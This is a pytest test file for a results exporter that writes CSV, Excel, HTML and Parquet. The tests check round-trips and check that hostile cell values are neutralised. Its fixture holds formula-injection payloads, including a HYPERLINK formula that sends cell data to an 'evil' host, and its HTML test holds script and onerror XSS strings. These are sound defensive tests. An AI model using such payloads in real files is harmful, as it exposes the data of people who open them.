import csv
import zipfile
from datetime import datetime
from decimal import Decimal

import duckdb
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from amc.errors import ResultFormatError, ResultMissingError, StorageFullError
from amc.results import excel
from amc.results.export import ExcelChart, Part, export
from amc.results.ingest import ingest
from amc.results.joining import CampaignName
from tests.unit.results.conftest import column, metric

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)", "+1", "-1+1", "\t=1", "\r=1", "|cmd", "%0A",
    "＝1+1", "http://a.example", "mailto:x@y.example", "'quoted", "<b>&amp;</b>", "{=1}", "0x1F",
]  # fmt: skip
COLUMNS = [
    column("campaign_id", "LONG"), column("name"), column("day", "DATE"),
    column("seen", "TIMESTAMP"), column("own", "BOOLEAN"), metric("users"),
    metric("spend", "DECIMAL"), metric("rate", "DOUBLE"),
]  # fmt: skip
TEXT = (
    "campaign_id,name,day,seen,own,users,spend,rate\n"
    '00123,"NA",2026-01-01,2026-01-01T10:00:00.000Z,true,1234567,1.50,0.1\n'
    '123456789012345678901,"a ""b"", c\nd",2026-12-31,2026-01-02T23:59:59.123Z,false,-5,-2.25,NaN\n'
    ",,,,,7,,\n"
)


@pytest.fixture
def stored(make, tmp_path):
    make(TEXT, columns=COLUMNS)
    return tmp_path / "out" / "result.parquet"


@pytest.fixture
def hostile(tmp_path):
    part = tmp_path / "hostile.csv"
    with part.open("w", newline="") as file:
        writer = csv.writer(file, lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writerow(["=name", "n"])
        writer.writerows([text, "-5"] for text in HOSTILE)
    to = tmp_path / "hostile.parquet"
    ingest([part], [column("=name"), metric("n")], to)
    return to


def read_csv(path):
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def sheet(path, name="Result"):
    book = openpyxl.load_workbook(path)
    return [[cell.value for cell in row] for row in book[name].iter_rows()]


def xml_of(path):
    with zipfile.ZipFile(path) as book:
        return {name: book.read(name).decode() for name in book.namelist() if name.endswith("xml")}


def test_raw_csv_holds_the_stored_values(stored, tmp_path):
    done = export([Part(stored)], tmp_path / "out.csv", "csv")
    assert done.rows == 3
    assert read_csv(done.path) == [
        ["campaign_id", "name", "day", "seen", "own", "users", "spend", "rate"],
        ["00123", "NA", "2026-01-01", "2026-01-01T10:00:00.000Z", "true", "1234567", "1.50", "0.1"],
        ["123456789012345678901", 'a "b", c\nd', "2026-12-31", "2026-01-02T23:59:59.123Z", "false",
         "-5", "-2.25", "NaN"],
        ["", "", "", "", "", "7", "", ""],
    ]  # fmt: skip


def test_a_csv_that_we_wrote_is_read_again_equal(stored, tmp_path):
    done = export([Part(stored)], tmp_path / "out.csv", "csv")
    ingest([done.path], COLUMNS, tmp_path / "again.parquet")
    same = duckdb.sql(
        f"SELECT count(*) FROM (FROM '{stored}' EXCEPT FROM '{tmp_path / 'again.parquet'}')"
    ).fetchall()
    assert same == [(0,)]


def test_spreadsheet_safe_csv_neutralises_texts_and_leaves_numbers(hostile, tmp_path):
    raw = read_csv(export([Part(hostile)], tmp_path / "raw.csv", "csv").path)
    assert [row[0] for row in raw] == ["=name", *HOSTILE]
    safe = read_csv(export([Part(hostile)], tmp_path / "safe.csv", "csv-safe").path)
    assert [row[0] for row in safe] == ["'=name", *("'" + t for t in HOSTILE[:9]), *HOSTILE[9:]]
    assert {row[1] for row in safe[1:]} == {"-5"}


def test_excel_reads_back_equal_and_typed(stored, tmp_path):
    done = export([Part(stored)], tmp_path / "out.xlsx", "xlsx", manifest={"window": "=1+1"})
    header, first, second, third = sheet(done.path)
    assert header == ["campaign_id", "name", "day", "seen", "own", "users", "spend", "rate"]
    assert first == [
        "00123", "NA", datetime(2026, 1, 1), datetime(2026, 1, 1, 10), True, 1234567, 1.5, 0.1,  # noqa: DTZ001
    ]  # fmt: skip
    assert second[0] == "123456789012345678901"
    assert second[1] == 'a "b", c\nd'
    assert second[5:] == [-5, -2.25, None]
    assert third == [None, None, None, None, None, 7, None, None]
    about = sheet(done.path, "About")
    assert ["rows", "3"] in about
    assert ["window", "=1+1"] in about


def test_excel_has_no_formula_and_no_link_from_data(hostile, tmp_path):
    done = export([Part(hostile)], tmp_path / "out.xlsx", "xlsx", manifest={"=1": "http://evil"})
    cells = openpyxl.load_workbook(done.path)["Result"]["A"]
    assert {cell.data_type for cell in cells} == {"s"}
    shown = [str(cell.value).replace("_x000D_", "\r") for cell in cells]
    assert shown == ["=name", *HOSTILE]
    for text in xml_of(done.path).values():
        assert "<f>" not in text
        assert "<f " not in text
        assert "<hyperlink " not in text


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    cells=st.lists(
        st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=20),
        min_size=1,
        max_size=8,
    )
)
def test_any_text_comes_back_from_csv_and_excel(tmp_path, cells):
    part, to = tmp_path / "part.csv", tmp_path / "any.parquet"
    with part.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(
            [["v", "k"], *([cell.replace("\\", "/"), "x"] for cell in cells)]
        )
    expected = [cell.replace("\\", "/") for cell in cells]
    ingest([part], [column("v"), column("k")], to)
    plain = read_csv(export([Part(to)], tmp_path / "any.csv", "csv").path)
    assert [row[0] for row in plain[1:]] == expected
    book = sheet(export([Part(to)], tmp_path / "any.xlsx", "xlsx").path)
    assert [row[0] for row in book[1:]] == expected


def test_long_texts_and_long_numbers_are_said_and_valid(make, tmp_path):
    long, emoji = "x" * 40_000, "🎯" * 17_000
    make(f"t,n\n{long},9007199254740993\n{emoji},1\nshort,\n", columns=[column("t"), metric("n")])
    stored = tmp_path / "out" / "result.parquet"
    done = export([Part(stored)], tmp_path / "out.xlsx", "xlsx")
    rows = sheet(done.path)
    assert rows[1][0].startswith("x" * 16_000)
    assert rows[1][0].endswith("… [cut: 40000 characters]")
    assert rows[2][0].endswith("… [cut: 17000 characters]")
    assert all(len(str(row[0]).encode("utf-16-le")) <= 2 * 32_767 for row in rows)
    assert [row[1] for row in rows[1:]] == ["9007199254740993", "1", None]
    assert any("2 texts of column 't'" in notice for notice in done.notices)
    assert any("cannot hold it exactly" in notice for notice in done.notices)
    assert ["notice", done.notices[0]] in sheet(done.path, "About")
    whole = read_csv(export([Part(stored)], tmp_path / "out.csv", "csv").path)
    assert [row[0] for row in whole[1:]] == [long, emoji, "short"]


def test_control_characters_leave_a_valid_workbook(make, tmp_path):
    make('t,n\n"a\x00b\x08c",1\n', columns=[column("t"), metric("n")])
    done = export([Part(tmp_path / "out" / "result.parquet")], tmp_path / "out.xlsx", "xlsx")
    assert sheet(done.path)[1][0] == "a_x0000_b_x0008_c"  # Excel's own way of writing them


def test_infinity_and_dates_before_excels_calendar_are_kept_readable(make, tmp_path):
    columns = [metric("r", "DOUBLE"), column("d", "DATE")]
    make("r,d\nInfinity,1899-12-31\n-Infinity,2026-01-01\n-0.0,\n", columns=columns)
    done = export([Part(tmp_path / "out" / "result.parquet")], tmp_path / "out.xlsx", "xlsx")
    rows = sheet(done.path)
    assert rows[1] == ["Infinity", "1899-12-31"]
    assert rows[2] == ["-Infinity", "2026-01-01"]
    assert rows[3][0] == 0


def test_rows_beyond_a_sheet_go_on_in_the_next(make, tmp_path, monkeypatch):
    monkeypatch.setattr(excel, "SHEET_ROWS", 100)
    make("n,t\n" + "".join(f"{i},v{i}\n" for i in range(250)), columns=[metric("n"), column("t")])
    done = export([Part(tmp_path / "out" / "result.parquet")], tmp_path / "out.xlsx", "xlsx")
    assert openpyxl.load_workbook(done.path).sheetnames == [
        "Result", "Result 2", "Result 3", "About",
    ]  # fmt: skip
    values = [row[0] for i in ("", " 2", " 3") for row in sheet(done.path, f"Result{i}")[1:]]
    assert values == list(range(250))
    assert "3 sheets" in done.notices[0]


def test_a_native_chart_stands_on_its_own_sheet(stored, tmp_path):
    frame = pd.DataFrame({"brand": ["=A", "B"], "users": [1, 2], "spend": [0.5, 1.5]})
    chart = ExcelChart(frame, "column", "brand", ["users", "spend"], title="Users & spend")
    done = export([Part(stored)], tmp_path / "out.xlsx", "xlsx", chart=chart)
    assert sheet(done.path, "Chart")[1] == ["=A", 1, 0.5]
    parts = xml_of(done.path)
    [drawn] = [text for name, text in parts.items() if name.startswith("xl/charts/")]
    assert drawn.count("<c:ser>") == 2
    assert "Users &amp; spend" in drawn
    assert len(sheet(done.path)) == 4


def test_parquet_is_the_stored_file_itself(stored, tmp_path):
    done = export([Part(stored)], tmp_path / "out.parquet", "parquet")
    assert done.path.read_bytes() == stored.read_bytes()


def test_several_results_become_one_table_with_their_instance_in_front(tmp_path):
    parts = []
    for number, body in enumerate(["1,1.5\n2,2.25\n", "x,0.125\n", ""]):
        part = tmp_path / f"{number}.csv"
        part.write_text("n,spend\n" + body)
        to = tmp_path / f"{number}.parquet"
        ingest([part], [metric("n"), metric("spend", "DECIMAL")], to)
        parts.append(Part(to, {"instance_id": f"amc'{number}"}))
    done = export(parts, tmp_path / "all.csv", "csv")
    assert done.rows == 3
    assert read_csv(done.path) == [
        ["instance_id", "n", "spend"],
        ["amc'0", "1", "1.500"],
        ["amc'0", "2", "2.250"],
        ["amc'1", "x", "0.125"],
    ]
    book = sheet(export(parts, tmp_path / "all.xlsx", "xlsx").path)
    assert book[3] == ["amc'1", "x", 0.125]
    whole = export(parts, tmp_path / "all.parquet", "parquet")
    found = duckdb.sql(f"SELECT sum(spend) FROM '{whole.path}'").fetchall()
    assert found == [(Decimal("3.875"),)]
    empty = export(parts[2:], tmp_path / "empty.csv", "csv")
    assert read_csv(empty.path) == [["instance_id", "n", "spend"]]


def test_names_are_joined_where_they_are_wanted(stored, tmp_path):
    names = {"00123": CampaignName("=Spring", "Brand")}
    rows = read_csv(export([Part(stored)], tmp_path / "o.csv", "csv-safe", names=names).path)
    assert rows[0][:3] == ["campaign_id", "campaign_id_name", "campaign_id_brand"]
    assert rows[1][:3] == ["00123", "'=Spring", "Brand"]
    assert rows[2][1] == ""


def test_an_empty_result_is_a_valid_file_in_every_form(make, tmp_path):
    make("a,b\n", columns=[column("a"), metric("b")])
    part = Part(tmp_path / "out" / "result.parquet")
    assert read_csv(export([part], tmp_path / "e.csv", "csv").path) == [["a", "b"]]
    assert sheet(export([part], tmp_path / "e.xlsx", "xlsx").path) == [["a", "b"]]
    assert "<table>" in export([part], tmp_path / "e.html", "html").path.read_text()


def test_a_single_blank_column_keeps_its_rows_in_csv(make, tmp_path):
    make("a\nx\n\n\ny\n", columns=[column("a")])
    done = export([Part(tmp_path / "out" / "result.parquet")], tmp_path / "o.csv", "csv")
    assert read_csv(done.path) == [["a"], ["x"], [""], [""], ["y"]]


def test_labels_that_repeat_are_exported_as_amc_wrote_them(make, tmp_path):
    make('a,a,,"x\ny"\n1,2,3,4\n')
    part = Part(tmp_path / "out" / "result.parquet")
    assert read_csv(export([part], tmp_path / "o.csv", "csv").path)[0] == [
        "a",
        "a",
        "column_3",
        "x\ny",
    ]
    assert sheet(export([part], tmp_path / "o.xlsx", "xlsx").path)[0] == [
        "a",
        "a",
        "column_3",
        "x y",
    ]


def test_html_shows_everything_literally_and_loads_nothing(hostile, tmp_path):
    done = export(
        [Part(hostile)], tmp_path / "o.html", "html",
        title="<script>alert(1)</script>", manifest={"<i>": "<img src=x onerror=alert(1)>"},
        figure_html="<div id='chart'></div>",
    )  # fmt: skip
    text = done.path.read_text()
    assert "<script>" not in text
    assert "<img" not in text
    assert "<div id='chart'></div>" in text
    assert "&lt;b&gt;&amp;amp;&lt;/b&gt;" in text
    assert "default-src &#x27;none&#x27;" in text


def test_a_missing_result_and_a_full_disk_leave_nothing(stored, tmp_path, monkeypatch):
    target = tmp_path / "exports" / "o.csv"
    with pytest.raises(ResultMissingError):
        export([Part(tmp_path / "gone.parquet")], target, "csv")
    with pytest.raises(ResultFormatError, match="no result"):
        export([], target, "csv")

    def full(*_args, **_more):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("shutil.copyfileobj", full)
    with pytest.raises(StorageFullError):
        export([Part(stored)], target, "csv")
    monkeypatch.setattr(excel, "write_worksheets", full)
    with pytest.raises(StorageFullError):
        export([Part(stored)], target.with_suffix(".xlsx"), "xlsx")
    assert list((tmp_path / "exports").iterdir()) == []
